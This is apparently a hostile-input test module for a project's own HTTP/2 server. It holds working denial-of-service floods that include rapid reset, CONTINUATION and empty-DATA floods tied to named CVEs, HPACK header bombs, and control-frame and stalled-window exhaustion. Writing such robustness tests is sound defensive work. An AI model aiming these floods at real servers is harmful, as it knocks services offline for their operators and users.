"""Attacks on HTTP/2, in the clear by prior knowledge and over TLS: frames, streams, windows."""

import itertools
import struct
from collections.abc import Callable, Iterable, Iterator
from functools import partial
from typing import Final

import hpack
from hyperframe.frame import SettingsFrame

from tests.hostile.attack import SMALL_LOG_BYTES, attack
from tests.hostile.target import RATE, Target

BOTH: Final = (False, True)
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS: Final = PREFACE + SettingsFrame(0).serialize()
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x2, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9,
)  # fmt: skip
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
_IDS: Final = range(1, 2**31, 2)  # of a client's streams


def frame(type: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """Build a frame (RFC 9113 section 4.1)."""
    size = len(payload)
    return struct.pack(">HBBBI", size >> 8, size & 0xFF, type, flags, stream_id) + payload


def block(path: str, method: str = "GET", *fields: tuple[str, str]) -> bytes:
    """Build a header block that leaves the dynamic table alone, so that it may be sent often."""
    pairs = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"), *fields]
    return b"".join(
        hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(name, value)]) for name, value in pairs
    )


_LIVE: Final = block("/health/live")
_EVENTS: Final = block("/events?topic=a")
_POST: Final = block("/events", "POST", ("content-type", "application/json"))


def head(stream_id: int, fields: bytes = _LIVE, flags: int = END_STREAM | END_HEADERS) -> bytes:
    """Build a HEADERS frame."""
    return frame(HEADERS, flags, stream_id, fields)


async def flood(
    target: Target, make: Callable[[], Iterable[bytes]], rate: float = RATE, *, reads: bool = True
) -> None:
    """Send the preface, empty settings, and then the frames, on one connection."""
    await target.flood(lambda: itertools.chain([_SETTINGS], make()), "h2", rate=rate, reads=reads)


async def _flood_frame(target: Target, blob: bytes, *first: bytes) -> None:
    """Send one frame again and again, a hundred at a time."""
    await flood(target, lambda: itertools.chain(first, itertools.repeat(blob * 100)))


@attack(tls=BOTH)
async def rapid_reset(target: Target) -> None:
    """Open streams and reset each at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)
    await flood(target, lambda: (head(number) + frame(RST_STREAM, 0, number, cancel) for number in _IDS))


@attack()
async def reset_streams(target: Target) -> None:
    """Subscribe, and reset each stream at once."""
    cancel = struct.pack(">I", 8)
    await flood(
        target, lambda: (head(number, _EVENTS) + frame(RST_STREAM, 0, number, cancel) for number in _IDS)
    )


@attack(tls=BOTH)
async def one_byte_windows(target: Target) -> None:
    """Ask for /openapi.json with windows of a byte, and open them by a byte at a time."""
    tiny = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
    ids = _IDS[:50]
    asked = b"".join(head(number, block("/openapi.json")) for number in ids)
    one = struct.pack(">I", 1)
    wider = b"".join(frame(WINDOW_UPDATE, 0, number, one) for number in ids)
    await flood(target, lambda: itertools.chain([tiny + asked], itertools.repeat(wider)))


@attack(tls=BOTH)
async def settings_flood(target: Target) -> None:
    """Send SETTINGS frames, each of which wants an answer."""
    await _flood_frame(target, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))


@attack(tls=BOTH)
async def ping_flood(target: Target) -> None:
    """Send PING frames, each of which wants an answer."""
    await _flood_frame(target, frame(PING, 0, 0, b"12345678"))


@attack()
async def window_updates(target: Target) -> None:
    """Open the connection's window by a byte, for ever."""
    await _flood_frame(target, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


@attack()
async def priorities(target: Target) -> None:
    """Send PRIORITY frames that build a chain of a thousand streams, and turn it around."""
    chain = b"".join(
        frame(PRIORITY, 0, number, struct.pack(">IB", number - 2 if number > 1 else 0, 15))
        for number in _IDS[:1000]
    )
    turned = b"".join(
        frame(PRIORITY, 0, number, struct.pack(">IB", number + 2, 15)) for number in _IDS[:1000]
    )
    await flood(target, lambda: itertools.cycle([chain, turned]))


@attack()
async def unknown_frames(target: Target) -> None:
    """Send frames of unknown types."""
    await _flood_frame(target, frame(0xBB, 0, 0, b"") + frame(0xCC, 0, 0, b"x" * 5))


@attack()
async def empty_data(target: Target) -> None:
    """Send DATA frames without data on an open request (CVE-2019-9518)."""
    await _flood_frame(target, frame(DATA, 0, 1), head(1, _POST, END_HEADERS))


@attack(tls=BOTH)
async def one_byte_data(target: Target) -> None:
    """Send a body in DATA frames of one byte."""
    await _flood_frame(target, frame(DATA, 0, 1, b" "), head(1, _POST, END_HEADERS))


@attack()
async def continuations(target: Target) -> None:
    """Send a head in CONTINUATION frames that never ends (CVE-2024-27316)."""
    field = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x", "y" * 20)])
    await _flood_frame(target, frame(CONTINUATION, 0, 1, field), head(1, _LIVE, END_STREAM))


@attack()
async def empty_continuations(target: Target) -> None:
    """Send CONTINUATION frames without a byte."""
    await _flood_frame(target, frame(CONTINUATION, 0, 1), head(1, _LIVE, END_STREAM))


@attack()
async def header_bomb(target: Target) -> None:
    """Put a field of 4 kB into the dynamic table, and name it by a byte 10,000 times a head."""
    stored = hpack.Encoder().encode([("x", "y" * 3900)])

    def heads() -> Iterator[bytes]:
        yield head(1, _LIVE + stored)
        for number in _IDS[1:]:
            yield head(number, _LIVE + b"\xbe" * 10_000)

    await flood(target, heads, rate=500_000)


@attack()
async def many_fields(target: Target) -> None:
    """Send heads of thousands of short fields."""
    fields = _LIVE + hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("a", "")]) * 3000
    await flood(target, lambda: (head(number, fields) for number in _IDS))


@attack()
async def huffman_heads(target: Target) -> None:
    """Send heads of 60 kB in Huffman code, which are decoded before they are refused."""
    fields = _LIVE + hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x", "e" * 95_000)])
    parts = [fields[start : start + 16_000] for start in range(0, len(fields), 16_000)]

    def heads() -> Iterator[bytes]:
        for number in _IDS:
            yield head(number, parts[0], END_STREAM)
            yield from (frame(CONTINUATION, 0, number, part) for part in parts[1:-1])
            yield frame(CONTINUATION, END_HEADERS, number, parts[-1])

    await flood(target, heads)


@attack(tls=BOTH)
async def requests(target: Target) -> None:
    """Send requests as fast as they are taken, on one connection."""
    await flood(target, lambda: (head(number) for number in _IDS), rate=200_000)


@attack(tls=BOTH)
async def unread_streams(target: Target) -> None:
    """Ask for /openapi.json on 250 streams behind closed windows, and read nothing."""
    closed = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    asked = b"".join(head(number, block("/openapi.json")) for number in _IDS[:250])
    await target.flood(lambda: [_SETTINGS + closed + asked], "h2", connections=8, reads=False)


@attack(log__max_bytes=SMALL_LOG_BYTES)
async def stalled_subscribers(target: Target) -> None:
    """Subscribe on 250 streams behind closed windows, and publish to them."""
    closed = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    asked = b"".join(head(number, _EVENTS) for number in _IDS[:200])
    data = frame(DATA, END_STREAM, 0, b'{"topic":"a","data":"' + b"x" * 5000 + b'"}')

    def frames() -> Iterator[bytes]:
        yield closed + asked
        for number in _IDS[200:]:
            yield head(number, _POST, END_HEADERS) + data[:5] + struct.pack(">I", number) + data[9:]

    await flood(target, frames, rate=1_000_000)


@attack(tls=BOTH)
async def all_control_frames(target: Target) -> None:
    """Send control frames of all kinds on five connections at once."""
    one = struct.pack(">I", 1)
    mixed = (
        frame(SETTINGS, 0, 0)
        + frame(PING, 0, 0, b"12345678")
        + frame(WINDOW_UPDATE, 0, 0, one)
        + frame(0xBB, 0, 0)
    )
    blobs = partial(itertools.chain, [_SETTINGS], itertools.repeat(mixed * 100))
    await target.flood(blobs, "h2", connections=5, rate=5_000_000)


@attack()
async def goaways(target: Target) -> None:
    """Send GOAWAY frames with debug data, and requests in between."""
    gone = frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0) + b"x" * 1000)
    await flood(target, lambda: (gone + head(number) for number in _IDS))
